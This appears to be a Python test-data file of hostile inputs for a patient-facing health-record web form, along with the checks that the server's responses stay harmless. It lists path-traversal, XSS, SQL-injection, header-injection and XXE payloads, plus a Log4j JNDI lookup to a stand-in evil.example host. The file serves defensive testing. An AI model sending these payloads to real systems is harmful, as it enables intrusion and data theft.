"""What somebody who means harm may send to the patient's door, and what each has to be answered."""

from collections.abc import Mapping
from typing import NamedTuple
from urllib.parse import quote

from werkzeug.test import TestResponse

PROPOSAL = "We plan to stop your Summary Care Record"
CHOOSE = "Choose what you want"
UNKNOWN = "We could not find a page for this answer code or link"
LIKELY = "Did you mean this answer code?"
NOT_FOUND = "Page not found"
METHOD = "This page cannot be opened like that"
UNREADABLE = "We could not read what was sent"
TOO_LONG = "That was too long for us to read"
REAL = "Date of birth must be a real date"
MISSING = "Enter a date of birth"
CHECK = "/r/CODE/check/"
SCRIPT = "<script>alert(1)</script>"
FORM = "application/x-www-form-urlencoded"


class Case(NamedTuple):
    """What is sent, and what the answer has to be: `said` stands on the page, or begins the address it sends to."""

    sent: str
    status: int
    said: str


def judge(got: TestResponse, case: Case, code: str) -> None:
    """Raise AssertionError unless the answer is the right one, and harmless whatever it is."""
    page = got.get_data(as_text=True)
    assert got.status_code == case.status, case
    if 300 <= got.status_code < 400:
        assert (got.location or "").startswith(case.said.replace("CODE", code)), case
        assert (got.location or "").startswith("/r"), case
    elif got.request.method != "HEAD":
        assert case.said in page, case
    assert "<script" not in page, case
    assert "Set-Cookie" not in got.headers, case
    assert not [value for _, value in got.headers if not value.isprintable()], case
    assert got.headers["Cache-Control"] == "no-store", case
    assert got.headers["Referrer-Policy"] == "no-referrer", case


# CODE is Ada's, OTHER is Bob's, REFERENCE is that of an answer that Ada has given.
ADDRESSES = [
    Case("/", 404, NOT_FOUND),
    Case("/r/%00", 404, UNKNOWN),
    Case("/r/" + "A" * 3000, 404, UNKNOWN),
    Case("/r/..%2f..%2fetc%2fpasswd", 404, NOT_FOUND),
    Case("/r/..%5c..%5cetc", 404, UNKNOWN),
    Case("/r/%2e%2e/staff/", 404, NOT_FOUND),
    Case("/r/%F0%9F%92%A9", 404, UNKNOWN),
    Case("/r/%ff%fe", 404, UNKNOWN),
    Case("/r/%ed%a0%80", 404, UNKNOWN),  # half of a surrogate pair
    Case("/r/%c0%ae%c0%ae", 404, UNKNOWN),  # dots in more bytes than they need
    Case(f"/r/{quote(SCRIPT, safe='')}", 404, NOT_FOUND),  # the slash makes it another address
    Case("/r/%3Cimg%20src=x%20onerror=alert(1)%3E", 404, "&lt;img src=x onerror=alert(1)&gt;"),
    Case("/r/%22%20autofocus%20onfocus=%22alert(1)", 404, "&#34; autofocus onfocus=&#34;alert(1)"),
    Case("/r/{{7*7}}", 404, "{{7*7}}"),
    Case("/r/{typed.__class__}", 404, "{typed.__class__}"),
    Case("/r/%25s%25n", 404, "%s%n"),
    Case("/r/'%20OR%201=1%20--", 404, "&#39; OR 1=1 --"),
    Case("/r/%0d%0aSet-Cookie:x=1", 404, 'value="Set-Cookie:x=1"'),
    Case("/r/%e2%80%aeABC", 404, 'value="ABC"'),  # what would turn the line round is left out
    Case("/r/%d9%a1%d9%a2%d9%a3%d9%a4%d9%a1%d9%a2%d9%a3%d9%a4%d9%a1%d9%a2%d9%a3%d9%a4", 404, UNKNOWN),
    Case("/r//", 308, "/r/"),
    Case("/r//CODE", 308, "/r/CODE"),
    Case("/r/CODE/", 200, PROPOSAL),
    Case("/r/CODE.", 200, PROPOSAL),  # the full stop after a link in a sentence
    Case("/r/CODE%20", 200, PROPOSAL),
    *(Case(f"/r/CODE{quote(end)}", 200, PROPOSAL) for end in [*",)>'!?]", '"', "\u201d.", "&gt;"]),
    Case("/r/%3CCODE%3E", 200, PROPOSAL),
    Case("/r/CODE%22%3Eanswer%3C", 200, PROPOSAL),  # the rest of a tag, where a program has cut it out badly
    Case("/r/CODE;jsessionid=1", 404, UNKNOWN),
    Case("/r/CODE%00", 200, PROPOSAL),
    Case("/r/CODE/%2e%2e/OTHER", 404, NOT_FOUND),
    Case("/r/CODE/nothing", 404, NOT_FOUND),
    Case("/r/a/b", 404, NOT_FOUND),
    Case("/R/CODE", 308, "/r/CODE"),
    Case("/R/CODE?language=pl", 308, "/r/CODE?language=pl"),
    Case("/R/%0d%0aX-A:b", 404, NOT_FOUND),
    Case("/R", 308, "/r"),
    Case("/r/CODE/YOU?choice=keep", 404, NOT_FOUND),
    Case("/r/CODE%2fyou", 400, CHOOSE),
    Case("/r/CODE?language=../../x", 200, PROPOSAL),
    Case("/r/CODE?language=%00%ff%0d%0aX-A:b", 200, PROPOSAL),
    Case("/r/CODE?language=" + "x" * 9000, 200, PROPOSAL),
    Case("/r/CODE?language[]=ar&language=en", 200, PROPOSAL),
    Case("/r/CODE?" + "&".join(f"a{n}=1" for n in range(2000)), 200, PROPOSAL),
    Case("/r/CODE?code=OTHER&choice=agree", 200, PROPOSAL),
    Case("/r/CODE/you", 400, CHOOSE),
    Case("/r/CODE/you?choice=everything", 400, CHOOSE),
    Case(f"/r/CODE/you?choice={quote(SCRIPT)}", 400, CHOOSE),
    Case("/r/CODE/you?choice[]=keep", 400, CHOOSE),
    Case("/r/CODE/you?choice=KEEP", 400, CHOOSE),
    Case("/r/CODE/you?choice=keep%00", 400, CHOOSE),
    Case("/r/CODE/you?choice=keep&choice=agree", 200, "Keep my Summary Care Record"),  # the first, and it is shown
    Case("/r/CODE/who", 400, CHOOSE),
    Case(f"/r/CODE/who?choice=keep&kept={quote(SCRIPT)}", 200, "Who is this answer for?"),
    Case(f"/r/CODE/you?choice=keep&relation={quote(SCRIPT)}", 200, "Who is this answer for?"),
    Case("/r/CODE/you?choice=keep&relation=patient&kept=%00", 200, "Your date of birth"),
    Case("/r/CODE?kept=" + "x" * 9000, 200, PROPOSAL),
    Case("/r/CODE/check/", 404, NOT_FOUND),
    Case("/r/CODE/check/x/y", 404, NOT_FOUND),
    Case("/r/CODE/done/", 404, NOT_FOUND),
    Case("/r/CODE/done/%00", 404, NOT_FOUND),
    Case("/r/CODE/done/%ed%a0%80", 404, NOT_FOUND),
    Case("/r/CODE/done/" + "A" * 3000, 404, NOT_FOUND),
    Case("/r/CODE/done/%25", 404, NOT_FOUND),
    Case("/r/CODE/done/' OR ''='", 404, NOT_FOUND),
    Case("/r/OTHER/done/REFERENCE", 404, NOT_FOUND),
    Case("/r/OTHER/done/REFERENCE/answer.txt", 404, NOT_FOUND),
    Case("/r/CODE/done/REFERENCE/..%2fanswer.txt", 404, NOT_FOUND),
    Case("/r/CODE/done/REFERENCE/answer.txt/", 404, NOT_FOUND),
    Case("/r/CODE/done/REFERENCE%0d%0aX:y/answer.txt", 404, NOT_FOUND),
    Case("/s/../r/CODE", 404, NOT_FOUND),
    Case("/s/%00", 200, "This square is for the practice"),
]  # fmt: skip


BORN = "dob-day=31&dob-month=3&dob-year=1980"
FORMS = [
    Case("", 400, CHOOSE),
    Case("%", 400, CHOOSE),
    Case("&&&&===&=", 400, CHOOSE),
    Case("%ff%fe=%ff", 400, CHOOSE),
    Case(BORN, 400, CHOOSE),
    Case(f"choice[]=keep&{BORN}", 400, CHOOSE),
    Case(f"choice[0]=keep&{BORN}", 400, CHOOSE),
    Case(f"choice=&{BORN}", 400, CHOOSE),
    Case(f"choice=KEEP&{BORN}", 400, CHOOSE),
    Case(f"choice=keep%00&{BORN}", 400, CHOOSE),
    Case(f"choice=kee%CC%81p&{BORN}", 400, CHOOSE),
    Case(f"choice=%D0%BAeep&{BORN}", 400, CHOOSE),
    Case(f"choice=keep;{BORN}", 400, CHOOSE),
    Case(f"choice={quote(SCRIPT)}&{BORN}", 400, CHOOSE),
    Case("choice=keep", 400, MISSING),
    Case("choice=keep&dob-day=%00&dob-month=%00&dob-year=%00", 400, MISSING),
    Case("choice=keep&dob-day[]=31&dob-month[]=3&dob-year[]=1980", 400, MISSING),
    Case("choice=keep&dob-day=31&dob-month=3", 400, "must include a year"),
    Case("choice=keep&dob-day=3e1&dob-month=3&dob-year=1980", 400, REAL),
    Case("choice=keep&dob-day=0x1f&dob-month=3&dob-year=1980", 400, REAL),
    Case("choice=keep&dob-day=31.0&dob-month=3&dob-year=1980", 400, REAL),
    Case("choice=keep&dob-day=NaN&dob-month=Infinity&dob-year=-0", 400, REAL),
    Case("choice=keep&dob-day=0&dob-month=0&dob-year=0", 400, REAL),
    Case("choice=keep&dob-day=31&dob-month=2&dob-year=1980", 400, REAL),
    Case("choice=keep&dob-day=31&dob-month=3&dob-year=99999", 400, REAL),
    Case("choice=keep&dob-day=31&dob-month=3&dob-year=-1980000000000000000", 400, REAL),
    Case(f"choice=keep&dob-day={'9' * 4000}&dob-month=3&dob-year=1980", 400, REAL),
    Case("choice=keep&dob-day=31&dob-month=3&dob-year=2999", 400, "must be in the past"),
    Case("choice=keep&dob-day=31&dob-month=%D0%9C%D0%B0%D1%80%D1%82&dob-year=1980", 400, REAL),
    Case("choice=keep&dob-day=31%0d%0aSet-Cookie:x=1&dob-month=3&dob-year=1980", 400, "31 Set-Cookie:x=1"),
    Case("choice=keep&dob-day=%22%3E%3Cimg+src=x+onerror=alert(1)%3E", 400, "&#34;&gt;&lt;img src=x onerror"),
    Case("choice=keep&dob-day={{7*7}}&dob-month=3&dob-year=1980", 400, "{{7*7}}"),
    Case(f"choice=keep&{BORN}&relation=god&name=x", 400, "Choose who this answer is for"),
    Case(f"choice=keep&{BORN}&relation=PATIENT&name=x", 400, "Choose who this answer is for"),
    Case(f"choice=keep&{BORN}&name=x", 400, "Choose who this answer is for"),
    Case(f"choice=keep&{BORN}&relation=god", 400, "Choose who this answer is for"),
    Case(f"choice=keep&{BORN}&relation=carer&name=%00%E2%80%AE", 400, "Enter your own name"),
    Case("x=" + "A" * 20_000, 413, TOO_LONG),
    Case(f"choice=keep&{BORN}" + "&x=1" * 8000, 413, TOO_LONG),
    # What follows is a form in order; it leads to the page where it is checked, and nothing is written yet.
    Case(f"choice=keep&choice=agree&{BORN}", 303, CHECK),
    Case(f"choice=keep&{BORN}&dob-day=1&dob-year=1", 303, CHECK),
    Case("choice=keep&dob-day=%EF%BC%93%EF%BC%91&dob-month=3&dob-year=1980", 303, CHECK),  # full width
    Case("choice=keep&dob-day=%D9%A3%D9%A1&dob-month=%D9%A3&dob-year=%D9%A1%D9%A9%D9%A8%D9%A0", 303, CHECK),
    Case("choice=keep&dob-day=%E2%80%8F31%00&dob-month=3&dob-year=1980", 303, CHECK),  # a mark that text goes left
    Case(f"choice=keep&{BORN}&relation=advocate&name=%ED%A0%80", 303, CHECK),
    Case(f"choice=keep&{BORN}&extent=everything", 303, CHECK),
    Case(f"choice=keep&{BORN}&sitting=%00../../{'x' * 500}", 303, CHECK),
    Case(f"choice=keep&{BORN}&language=../../x", 303, CHECK),
    Case(f"choice=keep&{BORN}&verified=1&reference=X&notice_id=2&doubt=", 303, CHECK),
]  # fmt: skip


def part(name: str, rest: str = "") -> bytes:
    """One part of a form as files are sent."""
    return f'--x\r\nContent-Disposition: form-data; name="{name}"{rest}\r\n\r\nkeep\r\n'.encode()


MULTIPART = "multipart/form-data; boundary=x"
BODIES: list[tuple[bytes, str, int, str]] = [
    (b'{"choice": "keep"}', "application/json", 400, CHOOSE),
    (b"[[[[[[", "application/json", 400, CHOOSE),
    (b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "text/xml", 400, CHOOSE),
    (b"\x00\x01\x02", "application/octet-stream", 400, CHOOSE),
    (b"\x1f\x8b\x08\x00", FORM, 400, CHOOSE),
    (b"choice=keep", "", 400, CHOOSE),
    (b"choice=keep", "text/plain", 400, CHOOSE),
    (b"choice=keep", f"{FORM}; charset=utf-7", 400, MISSING),
    (b"choice=keep", f"{FORM}; charset=nonsense", 400, MISSING),
    (b"abc", "multipart/form-data", 400, CHOOSE),
    (b"--x", "multipart/form-data; boundary=" + "x" * 500, 400, CHOOSE),
    (b"--x\r\nContent-Disposition: form-data; name=", MULTIPART, 400, CHOOSE),
    (b"--x\r\n" + b"A" * 15_000, MULTIPART, 400, CHOOSE),
    (part("choice", '; filename="keep"') + b"--x--", MULTIPART, 400, CHOOSE),  # a file is no choice
    (part("choice", '; filename="a\r\nSet-Cookie: x=1"') + b"--x--", MULTIPART, 400, MISSING),
    (part("choice") + b"--x--", MULTIPART, 400, MISSING),
    (b"".join(part(f"f{n}") for n in range(60)) + b"--x--", MULTIPART, 413, TOO_LONG),
]


HEADERS: list[Mapping[str, str]] = [
    {"Host": "evil.example"},
    {"Host": "evil.example\t"},
    {"Host": ""},
    {"Host": "evil.example:99999"},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "javascript", "X-Forwarded-Prefix": "//evil.example"},
    {"Forwarded": "for=1;host=evil.example"},
    {"X-Original-URL": "/staff/", "X-Rewrite-URL": "/staff/"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"Cookie": "fair-notice-staff=.eJx; session=y; =; a"},
    {"Cookie": "\x00\xff"},
    {"Authorization": "Basic !!!"},
    {"Range": "bytes=0-10", "If-Range": "x"},
    {"If-None-Match": "*", "If-Modified-Since": "nonsense", "If-Match": "x"},
    {"Accept": "application/json", "Accept-Language": "../../x;q=9", "Accept-Encoding": "\x00"},
    {"Content-Encoding": "gzip"},
    {"Referer": "javascript:alert(1)", "Origin": "null", "User-Agent": "() { :;}; x ${jndi:ldap://evil.example/a}"},
    {"X-Forwarded-For": "1" * 5000},
]


TEXTS = [
    SCRIPT,
    '"><svg/onload=alert(1)>',
    "{{ config }} {% raw %} ${7*7} #{7*7} {0.__class__} %(x)s",
    "'; DROP TABLE reply; --",
    "=HYPERLINK(1)",
    "\u202eevil\u2066 \u0000 \u200b",
    "a\r\nSet-Cookie: x=1",
    "Z\u0351\u036b\u0343" * 40,
    "\U0001f4a9" * 60,
    "\ud800",
]
